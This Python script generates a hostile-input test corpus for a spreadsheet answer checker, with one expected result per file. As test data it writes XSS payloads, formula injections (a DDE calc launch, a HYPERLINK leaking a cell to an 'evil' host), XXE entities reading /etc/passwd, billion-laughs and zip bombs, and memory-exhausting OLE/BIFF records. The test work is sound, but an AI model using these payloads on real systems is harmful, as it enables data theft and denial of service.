"""Generate the hostile input corpus (issue 9) into a folder: nothing binary is committed.

Usage: python tests/hostile/make_corpus.py DIR   (HYOJUN_HOSTILE_BIG=1 also writes the 50 MB file)

Every workbook is written as raw OOXML parts with zipfile, so each hostile construct (a DTD, an
entity, a raw NUL byte, a lying zip header) is exactly what we put there and generation stays fast.
Each case names what a correct run must do: ``ok`` (a report) or ``error`` (an InputError whose
message contains ``match`` and the file name).
"""

from __future__ import annotations

import csv
import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from checker.io.cells import column_letter

# Ids that exist in the bundled 介護保険 第6.0版 spec (tests/fixtures/specs), so rows are real answers.
IDS = tuple(f"02301{n:02d}" for n in range(1, 25))  # 0230101..0230124: one id per payload row, no duplicates
HEADER = ("機能ID", "機能名称", "対応可否", "代替案", "備考")
XXE_HTTP = "http://127.0.0.1:9/"

# Each payload, if it ever ran, would set window.__pwned or make a request (the browser test checks both).
XSS = (
    "<script>window.__pwned='script'</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "\"><svg onload=window.__pwned='svg'>",
    "'><iframe src=\"http://127.0.0.1:9/frame\"></iframe>",
    "</script><script>window.__pwned='breakout'</script>",
    "<!--<script>window.__pwned='comment'</script>-->",
    "javascript:window.__pwned='href'",
    "<link rel=stylesheet href=\"http://127.0.0.1:9/x.css\">",
    "<style>@import url(http://127.0.0.1:9/i.css);</style>",
    "{{ 7*7 }}${7*7}<%= 7*7 %>",
    "\u2028</textarea><body onload=window.__pwned='body'>",
)
XSS_VENDOR = "<script>window.__pwned='vendor'</script>悪意ベンダ"
XSS_SHEET = "<img src=x onerror=window.__pwned=1>"  # a sheet name reaches lint cell addresses

FORMULAS = ("=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
            "=1+1", "=cmd|' /C notepad'!'A1'", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "＝HYPERLINK(\"http://evil/\")")

# Characters that break naive code: NUL, RTL override, emoji (astral), private use (外字), combining.
ODD = ("NUL\x00byte", "RTL\u202eevil.exe\u202c", "絵文字🎌👨‍👩‍👧", "外字\ue000\uf8ff", "合成が\u3099")


@dataclass(frozen=True)
class Case:
    name: str  # file name in the corpus folder
    expect: str  # "ok" or "error"
    match: str = ""  # a substring the Japanese error message must contain
    about: str = ""


# ---------------------------------------------------------------- raw OOXML


def _xml_chars(value: str) -> str:
    """Characters XML cannot hold, written as OOXML _xHHHH_ escapes (the reader decodes them)."""
    out = []
    for ch in value:
        cp = ord(ch)
        if (cp < 0x20 and ch not in "\t\n\r") or 0xD800 <= cp <= 0xDFFF or cp in (0xFFFE, 0xFFFF):
            out.append(f"_x{cp:04X}_")
        else:
            out.append(ch)
    return "".join(out)


def _xml_text(value: str) -> str:
    return escape(_xml_chars(value))


def cell_xml(r: int, c: int, value: object) -> str:
    ref = f"{column_letter(c)}{r + 1}"
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_xml_text(str(value))}</t></is></c>'


def sheet_xml(rows: list[list[object]], doctype: str = "") -> str:
    body = "".join(f'<row r="{r + 1}">' + "".join(cell_xml(r, c, v) for c, v in enumerate(row) if v != "") + "</row>"
                   for r, row in enumerate(rows))
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"<sheetData>{body}</sheetData></worksheet>")


def xlsx_bytes(sheets: list[tuple[str, str | bytes]], shared: str | bytes | None = None,
               compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal valid .xlsx: one worksheet part per (name, sheet XML), optional sharedStrings part."""
    ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for i in range(1, len(sheets) + 1))
    if shared is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                      'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    content_types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                     '<Default Extension="xml" ContentType="application/xml"/>'
                     '<Override PartName="/xl/workbook.xml" ContentType="application/'
                     f'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>{overrides}</Types>')
    root_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 f'<Relationship Id="rId1" Type="{ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    sheet_tags = "".join(f'<sheet name={quoteattr(_xml_chars(name))} sheetId="{i}" r:id="rId{i}"/>'
                         for i, (name, _) in enumerate(sheets, start=1))
    workbook = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'xmlns:r="{ns}"><sheets>{sheet_tags}</sheets></workbook>')
    rels = "".join(f'<Relationship Id="rId{i}" Type="{ns}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                   for i in range(1, len(sheets) + 1))
    if shared is not None:
        rels += f'<Relationship Id="rIdS" Type="{ns}/sharedStrings" Target="sharedStrings.xml"/>'
    wb_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               f"{rels}</Relationships>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr("_rels/.rels", root_rels)
        zf.writestr("xl/workbook.xml", workbook)
        zf.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        for i, (_, xml) in enumerate(sheets, start=1):
            zf.writestr(f"xl/worksheets/sheet{i}.xml", xml)
        if shared is not None:
            zf.writestr("xl/sharedStrings.xml", shared)
    return buf.getvalue()


def vendor_rows(answers: list[tuple[str, str, str, str]], vendor: str = "安全システムズ") -> list[list[object]]:
    """Title rows with ベンダ名, then the header, then one row per (answer, name, alternative, comment)."""
    rows: list[list[object]] = [["介護保険システム標準仕様書【第6.0版】 回答", "", "", "", ""], ["ベンダ名", vendor, "", "", ""], list(HEADER)]
    for rid, (answer, name, alt, comment) in zip(IDS * (len(answers) // len(IDS) + 1), answers):
        rows.append([rid, name, answer, alt, comment])
    return rows


def csv_text(rows: list[list[object]], newline: str = "\r\n") -> str:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator=newline).writerows(rows)
    return buf.getvalue()


# ---------------------------------------------------------------- OLE (password-protected workbook)


def cfb_bytes(streams: list[tuple[str, bytes]]) -> bytes:
    """A minimal valid Compound File (v3, 512-byte sectors) holding the given streams.

    Excel saves a password-protected .xlsx as such a file with the streams EncryptionInfo and
    EncryptedPackage. Streams are padded to 4096 bytes so they live in the regular FAT (no mini stream).
    Checked with olefile (not a dependency): it lists the streams and reads them back whole.
    Sectors: the FAT (as many as the header lists, up to 109: 7 MB of streams), the directory, the streams.
    Directory: root → first stream, each stream's right sibling is the next (names in CFB order).
    """
    end, free, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    sector = 512
    # a stream under 4096 bytes would belong in the mini stream: pad it (with NULs) to that size instead
    streams = [(name, data.ljust(4096, b"\0")) for name, data in streams]
    padded = [(name, data.ljust(-(-len(data) // sector) * sector, b"\0"), len(data)) for name, data in streams]
    used = 1 + sum(len(data) // sector for _, data, _ in padded)  # the directory and the streams
    fats = -(-used // (sector // 4 - 1))  # each FAT sector takes an entry of its own
    assert fats <= 109, "the header lists 109 FAT sectors"
    fat = [fatsect] * fats + [end]  # then the directory
    starts = []
    for _, data, _ in padded:
        n = len(data) // sector
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(n - 1)] + [end]
    fat += [free] * (fats * sector // 4 - len(fat))

    def entry(name: str, typ: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), typ, 1, nostream, right, child)
                + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 + struct.pack("<IQ", start, size))

    entries = [entry("Root Entry", 5, nostream, 1 if streams else nostream, end, 0)]
    for i, ((name, _, size), start) in enumerate(zip(padded, starts), start=1):
        entries.append(entry(name, 2, i + 1 if i < len(padded) else nostream, nostream, start, size))
    directory = b"".join(entries).ljust(sector, b"\0")
    assert len(directory) == sector, "one directory sector is enough for the corpus"
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fats, fats, 0, 4096, end, 0, end, 0)
              + struct.pack("<109I", *range(fats), *[free] * (109 - fats)))
    assert len(header) == sector
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(d for _, d, _ in padded)


def biff_record(kind: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def biff_label(row: int, col: int, text: str) -> bytes:
    """A LABEL record: the cell's text inline (UTF-16)."""
    return biff_record(0x0204, struct.pack("<HHHHB", row, col, 0, len(text), 1) + text.encode("utf-16-le"))


def biff_number(row: int, col: int, value: float) -> bytes:
    return biff_record(0x0203, struct.pack("<HHHd", row, col, 0, value))


def biff_labelsst(row: int, col: int, index: int) -> bytes:
    """A LABELSST record: the cell refers to the SST's string *index*."""
    return biff_record(0x00FD, struct.pack("<HHHI", row, col, 0, index))


def biff_sst(strings: list[str], record_size: int = 8224) -> list[bytes]:
    """An SST record of *strings*, and the CONTINUE records past *record_size* bytes (BIFF8's most): a string
    going on into the next record starts it with its flag byte, as Excel writes it. A string is UTF-16 when one
    of its characters needs it, else one byte a character."""
    bodies = [struct.pack("<ii", len(strings), len(strings))]
    for text in strings:
        wide = any(ord(ch) > 0xFF for ch in text)
        raw, unit = text.encode("utf-16-le" if wide else "latin-1"), 2 if wide else 1
        if len(bodies[-1]) + 3 > record_size:
            bodies.append(b"")
        bodies[-1] += struct.pack("<HB", len(text), wide)
        while raw:
            room = (record_size - len(bodies[-1])) // unit * unit
            if not room:
                bodies.append(bytes([wide]))
                continue
            bodies[-1] += raw[:room]
            raw = raw[room:]
    return [biff_record(0x00FC, bodies[0]), *(biff_record(0x003C, body) for body in bodies[1:])]


def biff_dimensions(first_row: int, last_row: int, first_col: int, last_col: int) -> bytes:
    """DIMENSIONS: the used range as [first, last) of rows (32-bit) and columns (16-bit)."""
    return biff_record(0x0200, struct.pack("<IIHHH", first_row, last_row, first_col, last_col, 0))


def xls_bytes(sheets: list[tuple[str, list[bytes]]], workbook_records: list[bytes] = (), biff5: bool = False,
              streams: list[tuple[str, bytes]] = ()) -> bytes:
    """A minimal BIFF8 workbook (.xls) in a compound file: each sheet's records (cells, DIMENSIONS…) between its
    BOF and EOF; *workbook_records* (an SST…) in the workbook globals. calamine reads it. *biff5*: Excel 5.0/95's
    "Book" stream, its sheet names in CP932 (its LABEL records differ: give it numbers). *streams*: more streams
    of the compound file, after the workbook's."""
    version = 0x0500 if biff5 else 0x0600
    bof = biff_record(0x0809, struct.pack("<HHHHII", version, 0x0005, 0, 0, 0, 0))
    sheet_bof = biff_record(0x0809, struct.pack("<HHHHII", version, 0x0010, 0, 0, 0, 0))
    eof = biff_record(0x000A)
    names = [name.encode("cp932" if biff5 else "utf-16-le") for name, _ in sheets]
    head = biff_record(0x0042, struct.pack("<H", 932 if biff5 else 1200))
    bound_sizes = [4 + (7 if biff5 else 8) + len(n) for n in names]
    globals_size = len(bof) + len(head) + sum(bound_sizes) + sum(map(len, workbook_records)) + len(eof)
    bodies, offset, bounds = [], globals_size, []
    for (name, records), raw in zip(sheets, names):
        body = sheet_bof + b"".join(records) + eof
        cch = struct.pack("<B", len(raw)) if biff5 else struct.pack("<BB", len(name), 1)
        bounds.append(biff_record(0x0085, struct.pack("<IBB", offset, 0, 0) + cch + raw))
        bodies.append(body)
        offset += len(body)
    workbook = bof + head + b"".join(bounds) + b"".join(workbook_records) + eof
    assert len(workbook) == globals_size
    return cfb_bytes([("Book" if biff5 else "Workbook", workbook + b"".join(bodies)), *streams])


# ---------------------------------------------------------------- one string copied into many cells


def shared_string_copies_xlsx(cells: int, text: str) -> bytes:
    """A worksheet 「回答」 whose *cells* (A1 down) all refer to one shared string, *text*: calamine copies the
    string into every cell (30,000 cells of a 30,000-character string: a 150 KB file read into 1.7 GB)."""
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(1, cells + 1))
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    sheet = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {ns}><sheetData>{rows}</sheetData></worksheet>'
    shared = (f'<?xml version="1.0" encoding="UTF-8"?><sst {ns} count="{cells}" uniqueCount="1">'
              f"<si><t>{_xml_text(text)}</t></si></sst>")
    return xlsx_bytes([("回答", sheet)], shared=shared)


def sst_copies_xls(cells: int, text: str) -> bytes:
    """The same in an .xls: an SST of one string and *cells* LABELSST records (A1 down) referring to it."""
    return xls_bytes([("回答", [biff_labelsst(r, 0, 0) for r in range(cells)])], biff_sst([text]))


# ---------------------------------------------------------------- the cases

BUILDERS: dict[str, Callable[..., bytes]] = {}
CASES: list[Case] = []


def case(name: str, expect: str, match: str = "", about: str = "") -> Callable[[Callable[..., bytes]], Callable[..., bytes]]:
    def register(fn: Callable[..., bytes]) -> Callable[..., bytes]:
        CASES.append(Case(name, expect, match, about))
        BUILDERS[name] = fn
        return fn
    return register


def _xss_answers() -> list[tuple[str, str, str, str]]:
    # every payload in every text field: as an answer (→ invalid-answer lint), a name, an alternative, a comment
    return [("○", p, p, p) for p in XSS] + [(p, p, p, p) for p in XSS]


@case("xss.xlsx", "ok", about="XSS in answers, 機能名称, 代替案, 備考, sheet names and the vendor name")
def _xss_xlsx() -> bytes:
    rows = vendor_rows(_xss_answers(), XSS_VENDOR)
    bad_row = [["機能ID", "対応可否"], [XSS[0], "○"]]  # a bad id on a hostile sheet name → lint cell address
    return xlsx_bytes([(XSS_SHEET, sheet_xml(rows)), (XSS[1][:31], sheet_xml(bad_row))])


@case("xss.csv", "ok", about="XSS payloads in a CSV answer sheet")
def _xss_csv() -> bytes:
    return csv_text(vendor_rows(_xss_answers(), XSS_VENDOR)).encode("utf-8-sig")


def _formula_answers() -> list[tuple[str, str, str, str]]:
    return [(f, f, f, f) for f in FORMULAS] + [("○", "名称", f, f) for f in FORMULAS]


@case("formula.xlsx", "ok", about="formula-injection payloads in answers, alternatives and comments")
def _formula_xlsx() -> bytes:
    return xlsx_bytes([("回答", sheet_xml(vendor_rows(_formula_answers(), "=HYPERLINK(\"http://evil/\")")))])


@case("formula.csv", "ok")
def _formula_csv() -> bytes:
    return csv_text(vendor_rows(_formula_answers(), "@SUM(A1)")).encode("utf-8-sig")


def repeated_deflate(head: bytes, chunk: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + chunk * times + tail without compressing every copy: (data, crc32, size).

    After a full flush the compressor starts afresh, so the compressed chunk is the same bytes
    each time and can simply be repeated; generating a 400 MB part then takes milliseconds.
    """
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    seg = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    last = c.compress(tail) + c.flush()
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return first + seg * times + last, crc, len(head) + len(chunk) * times + len(tail)


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from (name, deflated data, crc32, uncompressed size as declared) tuples.

    The declared size goes into both headers; a hostile file is free to lie there.
    """
    out, central = bytearray(), bytearray()
    for name, data, crc, declared in members:
        raw = name.encode()
        central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), declared,
                               len(raw), 0, 0, 0, 0, 0, len(out)) + raw
        out += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), declared, len(raw), 0) + raw + data
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + end)


def _deflated(name: str, data: bytes) -> tuple[str, bytes, int, int]:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return name, c.compress(data) + c.flush(), zlib.crc32(data), len(data)


def _bomb_members(sheet_head: bytes, filler: bytes, times: int, sheet_tail: bytes, declared: int | None) -> bytes:
    plain = zipfile.ZipFile(io.BytesIO(xlsx_bytes([("回答", "<worksheet/>")])))
    members = [_deflated(n, plain.read(n)) for n in plain.namelist() if n != "xl/worksheets/sheet1.xml"]
    data, crc, size = repeated_deflate(sheet_head, filler, times, sheet_tail)
    members.append(("xl/worksheets/sheet1.xml", data, crc, size if declared is None else declared))
    return raw_zip(members)


def _bomb_parts() -> tuple[bytes, bytes, bytes]:
    xml = sheet_xml(vendor_rows([("○", "名称", "", "")])).encode()
    cut = xml.index(b"</sheetData>")
    return xml[:cut], b"<row/>" * (1024 * 1024 // 6), xml[cut:]  # the filler: ~1 MB of whole elements


@case("zip_bomb.xlsx", "error", "zip 爆弾", "a 400 MB worksheet part compressed ~1000:1")
def _zip_bomb() -> bytes:
    head, filler, tail = _bomb_parts()
    return _bomb_members(head, filler, 400, tail, None)


@case("zip_bomb_lying.xlsx", "error", "zip 爆弾", "the same 400 MB part, its zip headers claiming 100 bytes")
def _zip_bomb_lying() -> bytes:
    """The declared sizes are what a cheap check reads; the inflated data is what a reader gets."""
    head, filler, tail = _bomb_parts()
    return _bomb_members(head, filler, 400, tail, 100)


@case("shared_strings_count.xlsx", "error", "に記録された文字列の数（4,000,000,000）が",
      "2 KB whose shared strings declare 4,000,000,000 (calamine reserved 96 GB for them and aborted)")
def _shared_strings_count() -> bytes:
    sst = ('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4000000000" '
           'uniqueCount="4000000000"><si><t>○</t></si></sst>')
    return xlsx_bytes([("回答", sheet_xml(vendor_rows([("○", "名称", "", "")])))], shared=sst)


def _replace_member(xlsx: bytes, member: str, content: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            zf.writestr(info.filename, content if info.filename == member else src.read(info.filename))
    return buf.getvalue()


_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
           + "]>")


def _xxe(url: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{url}"><!ENTITY % p SYSTEM "{url}p.dtd"> %p;]>'


def _entity_sheet(doctype: str, entity: str) -> str:
    rows = vendor_rows([("○", f"&{entity};", "", f"&{entity};")])
    return sheet_xml(rows, doctype).replace(f"&amp;{entity};", f"&{entity};")


def _entity_shared(doctype: str, entity: str) -> tuple[str, str]:
    rows = vendor_rows([("○", "", "", "")])
    body = "".join(f'<row r="{r + 1}">' + "".join(cell_xml(r, c, v) for c, v in enumerate(row) if v != "") + "</row>"
                   for r, row in enumerate(rows))
    last = len(rows)
    body = body[: body.rfind("</row>")] + f'<c r="E{last}" t="s"><v>0</v></c></row>'
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f"<sheetData>{body}</sheetData></worksheet>")
    shared = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
              f'count="1" uniqueCount="1"><si><t>&{entity};</t></si></sst>')
    return sheet, shared


@case("billion_laughs_sheet.xlsx", "error", "DTD（<!DOCTYPE>・実体の宣言）があります", about="entity expansion (10^9 'lol') declared in the worksheet XML")
def _laughs_sheet() -> bytes:
    return xlsx_bytes([("回答", _entity_sheet(_LAUGHS, "lol9"))])


@case("billion_laughs_shared.xlsx", "error", "DTD（<!DOCTYPE>・実体の宣言）があります", about="entity expansion in sharedStrings.xml")
def _laughs_shared() -> bytes:
    sheet, shared = _entity_shared(_LAUGHS, "lol9")
    return xlsx_bytes([("回答", sheet)], shared)


@case("xxe_file_sheet.xlsx", "error", "DTD（<!DOCTYPE>・実体の宣言）があります", about="external entity to file:///etc/passwd in the worksheet XML")
def _xxe_file_sheet() -> bytes:
    return xlsx_bytes([("回答", _entity_sheet(_xxe("file:///etc/passwd"), "xxe"))])


@case("xxe_file_shared.xlsx", "error", "DTD（<!DOCTYPE>・実体の宣言）があります", about="external entity to file:///etc/passwd in sharedStrings.xml")
def _xxe_file_shared() -> bytes:
    sheet, shared = _entity_shared(_xxe("file:///etc/passwd"), "xxe")
    return xlsx_bytes([("回答", sheet)], shared)


@case("xxe_http_sheet.xlsx", "error", "DTD（<!DOCTYPE>・実体の宣言）があります", about="external entity (and parameter entity) to an http URL in the worksheet XML")
def _xxe_http_sheet(xxe_url: str = XXE_HTTP) -> bytes:
    return xlsx_bytes([("回答", _entity_sheet(_xxe(xxe_url), "xxe"))])


@case("xxe_http_shared.xlsx", "error", "DTD（<!DOCTYPE>・実体の宣言）があります", about="external entity to an http URL in sharedStrings.xml")
def _xxe_http_shared(xxe_url: str = XXE_HTTP) -> bytes:
    sheet, shared = _entity_shared(_xxe(xxe_url), "xxe")
    return xlsx_bytes([("回答", sheet)], shared)


def _plain_xlsx() -> bytes:
    return xlsx_bytes([("回答", sheet_xml(vendor_rows([("○", "名称", "", "")] * 8)))])


@case("truncated.xlsx", "error", "壊れて", "a valid workbook cut in half")
def _truncated() -> bytes:
    data = _plain_xlsx()
    return data[: len(data) // 2]


@case("corrupt_member.xlsx", "error", "読めません", "a valid zip whose worksheet part is not XML")
def _corrupt_member() -> bytes:
    return _replace_member(_plain_xlsx(), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c>\xff\xfe\x00garbage")


@case("bad_crc.xlsx", "error", "読めません", "a worksheet part whose bytes no longer match the zip CRC")
def _bad_crc() -> bytes:
    data = bytearray(xlsx_bytes([("回答", sheet_xml(vendor_rows([("○", "名称", "", "")] * 8)))], compression=zipfile.ZIP_STORED))
    pos = data.find(b"<sheetData>")
    data[pos + 1] = ord("S")  # still well-formed XML, but the CRC check must fail
    return bytes(data)


@case("not_a_workbook_zip.xlsx", "error", "読めません", "a zip (like a .docx) without xl/workbook.xml")
def _not_workbook_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("word/document.xml", "<document/>")
    return buf.getvalue()


@case("empty.xlsx", "error", "空のファイルです（0 バイト）", "zero bytes")
def _empty() -> bytes:
    return b""


@case("csv_renamed.xlsx", "ok", about="a CSV renamed to .xlsx: read as the CSV it is")
def _csv_renamed() -> bytes:
    return csv_text(vendor_rows([("○", "", "", "")])).encode("utf-8")


@case("html_as.xls", "error", "Web ページ（HTML）", "an old system's 「Excel 出力」: an HTML table saved as .xls")
def _html_as_xls() -> bytes:
    cells = "".join(f"<tr><td>{i}</td><td>○</td></tr>" for i in IDS)
    return f"<html><body><table><tr><td>機能ID</td><td>対応可否</td></tr>{cells}</table></body></html>".encode()


@case("spreadsheetml.xls", "error", "Excel 2003 XML", "an Excel 2003 XML spreadsheet saved as .xls")
def _spreadsheetml_xls() -> bytes:
    return ('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
            '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="回答"><Table>'
            '<Row><Cell><Data ss:Type="String">機能ID</Data></Cell></Row></Table></Worksheet></Workbook>').encode()


@case("pdf_renamed.xlsx", "error", "PDF", "a PDF renamed to .xlsx")
def _pdf_renamed() -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@case("password.xlsx", "error", "パスワード", "an encrypted workbook: OLE file with EncryptionInfo/EncryptedPackage streams")
def _password() -> bytes:
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\"/>"
    package = struct.pack("<Q", 4096) + bytes(range(256)) * 16  # stands in for AES output
    return cfb_bytes([("EncryptionInfo", info), ("EncryptedPackage", package)])


def _xls_answers(*extra: bytes) -> bytes:
    rows = vendor_rows([("○", "住登外者", "", "")])
    return xls_bytes([("回答", [biff_label(r, c, str(v)) for r, row in enumerate(rows) for c, v in enumerate(row) if v != ""]
                      + list(extra))])


@case("xls_dimensions_huge.xls", "error", "ブックを読めません",
      "a DIMENSIONS record claiming 4 billion rows: calamine reserved 1.2 TB for them and aborted")
def _xls_dimensions_huge() -> bytes:
    return _xls_answers(biff_dimensions(0, 0xFFFFFFFF, 0, 5))


@case("xls_far_cell.xls", "error", "HYOJUN_MAX_CELLS", "a cell at row 3,000 of column 65,536 (BIFF allows it): 6.3 GB")
def _xls_far_cell() -> bytes:
    return _xls_answers(biff_label(3000, 0xFFFF, "."))


@case("xls_directory_loop.xls", "error", "ブックを読めません",
      "the compound file's directory chain points back at itself: calamine followed it until memory ran out")
def _xls_directory_loop() -> bytes:
    data = bytearray(_xls_answers())
    struct.pack_into("<I", data, 512 + 4, 1)  # cfb_bytes: the FAT is sector 0, the directory sector 1
    return bytes(data)


@case("ole_not_excel.xls", "error", "読めません", "a valid OLE file without a Workbook stream")
def _ole_not_excel() -> bytes:
    return cfb_bytes([("WordDocument", b"\0" * 100)])


@case("rows_100k.xlsx", "ok", about="100,000 rows: 8 answers, then note rows the reader must walk past")
def _rows_100k() -> bytes:
    # Rows without an answer keep the reports small: this case is about reading, not writing, 100k rows.
    head = vendor_rows([("○", "名称", "", "")] * len(IDS))
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>注記{r}</t></is></c></row>'
                   for r in range(len(head) + 1, len(head) + 100_001 - len(IDS)))
    xml = sheet_xml(head).replace("</sheetData>", rows + "</sheetData>")
    return xlsx_bytes([("回答", xml)])


@case("cols_16384.xlsx", "ok", about="a header row 16,384 columns wide (A..XFD)")
def _cols_16k() -> bytes:
    rows = vendor_rows([("○", "名称", "", "")] * 8)
    xml = sheet_xml(rows)
    wide = "".join(f'<c r="{column_letter(c)}3" t="inlineStr"><is><t>列{c}</t></is></c>' for c in range(len(HEADER), 16384))
    pos = xml.find("</row>", xml.find('<row r="3">'))
    return xlsx_bytes([("回答", xml[:pos] + wide + xml[pos:])])


@case("big.xlsx", "ok", about="50 MB stored (uncompressed) workbook with HYOJUN_HOSTILE_BIG=1, else 5 MB")
def _big() -> bytes:
    target = 50 if os.environ.get("HYOJUN_HOSTILE_BIG") == "1" else 5
    filler = "長い備考" * 250  # 3 kB of UTF-8 per row
    n = target * 1024 * 1024 // (len(filler.encode()) + 120)
    rows = vendor_rows([("○", "名称", "", filler)] * len(IDS))
    extra = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>見出し{r}</t></is></c>'
                    f'<c r="E{r}" t="inlineStr"><is><t>{filler}</t></is></c></row>' for r in range(len(rows) + 1, len(rows) + n + 1))
    xml = sheet_xml(rows).replace("</sheetData>", extra + "</sheetData>")
    return xlsx_bytes([("回答", xml)], compression=zipfile.ZIP_STORED)


@case("odd_chars.xlsx", "ok", about="NUL, lone surrogates (as _xD800_ escapes), RTL override, emoji, 外字")
def _odd_chars() -> bytes:
    odd = (*ODD, "孤立\ud800サロゲート", "逆\udfff")
    rows = vendor_rows([("○", s, s, s) for s in odd] + [(s, "", "", "") for s in odd], "ベンダ\u202e名\ue000🎌\x00")
    return xlsx_bytes([("回答\u202e🎌\ue000", sheet_xml(rows))])


@case("raw_nul.xlsx", "error", "読めません", "a raw NUL byte and invalid UTF-8 inside the worksheet XML")
def _raw_nul() -> bytes:
    xml = sheet_xml(vendor_rows([("○", "名称", "", "備考")])).encode().replace("備考</t>".encode(), b"\x00\xed\xa0\x80</t>")
    return xlsx_bytes([("回答", xml)])


@case("odd_chars.csv", "ok", about="NUL bytes, RTL override, emoji and 外字 in a UTF-8 CSV")
def _odd_chars_csv() -> bytes:
    return csv_text(vendor_rows([("○", s, s, s) for s in ODD], "ベンダ\u202e🎌\ue000")).encode("utf-8")


@case("mixed_encoding.csv", "error", "文字コード", "UTF-8 and CP932 lines in one file")
def _mixed_encoding() -> bytes:
    text = csv_text(vendor_rows([("○", "住登外者", "", "標準機能で対応")] * len(IDS)))
    lines = text.split("\r\n")
    return b"\r\n".join(line.encode("utf-8" if i % 2 else "cp932") for i, line in enumerate(lines))


@case("wide_row.csv", "error", "HYOJUN_MAX_CELLS", "one row of 20,000 commas above 1,000 answer rows: 20 million cells once padded")
def _wide_row_csv() -> bytes:
    return (csv_text(vendor_rows([("○", "住登外者", "", "標準機能で対応")] * 1000)) + "," * 19_999 + "\r\n").encode("utf-8")


